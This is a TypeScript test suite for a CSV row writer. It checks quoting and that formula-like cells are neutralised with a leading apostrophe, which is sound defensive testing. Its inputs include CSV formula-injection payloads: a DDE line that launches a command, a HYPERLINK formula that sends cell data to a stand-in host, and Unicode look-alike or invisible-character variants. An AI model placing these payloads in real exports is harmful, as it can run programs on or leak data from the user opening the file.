import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvRow } from '@/lib/csv';
import { parseCsv } from './support/parse-csv';

test.each([
  ['plain', '"plain"\r\n'],
  ['', '""\r\n'],
  ['say "hi"', '"say ""hi"""\r\n'],
  ['a,b;c\td', '"a,b;c\td"\r\n'],
  ['two\r\nlines', '"two\r\nlines"\r\n'],
  ['2 + 2 = 4', '"2 + 2 = 4"\r\n'],
  ['desk@contoso.example', '"desk@contoso.example"\r\n'],
  ["O'Brien", '"O\'Brien"\r\n'],
])('%j is written as it is', (value, row) => {
  expect(csvRow([value])).toBe(row);
});

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '\t=1+1',
  '\tplain',
  '\r=1+1',
  '\rplain',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u{feff}=1+1',
])('%j is not run by a spreadsheet: it is text', (value) => {
  expect(parseCsv(csvRow([value]))).toEqual([[`'${value}`]]);
});

/** Texts that are likely to break out of a cell. */
const hostile = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠,;"\'\t\r\n |!a') }),
);

test('whatever is written is read back, with at most an apostrophe before it, and runs nowhere', () => {
  fc.assert(
    fc.property(fc.array(fc.array(hostile, { minLength: 1, maxLength: 5 }), { minLength: 1 }), (rows) => {
      const read = parseCsv(rows.map(csvRow).join(''));
      expect(read.map((cells) => cells.length)).toEqual(rows.map((cells) => cells.length));
      for (const [at, cells] of rows.entries()) {
        for (const [place, value] of cells.entries()) {
          const back = read[at]?.[place] ?? '';
          expect([value, `'${value}`]).toContain(back);
          expect(back.trimStart().normalize('NFKC')).not.toMatch(/^[=+\-@]/);
          expect(back).not.toMatch(/^[\t\r\n]/);
        }
      }
    }),
    { numRuns: 1000 },
  );
});

test('a list separator of another country does not make a cell of what follows it', () => {
  // A spreadsheet that separates by semicolons takes a quoted cell up to its closing quote as one, whatever is in it.
  expect(csvRow(['a";=1+1;"', 'b'])).toBe('"a"";=1+1;""","b"\r\n');
});
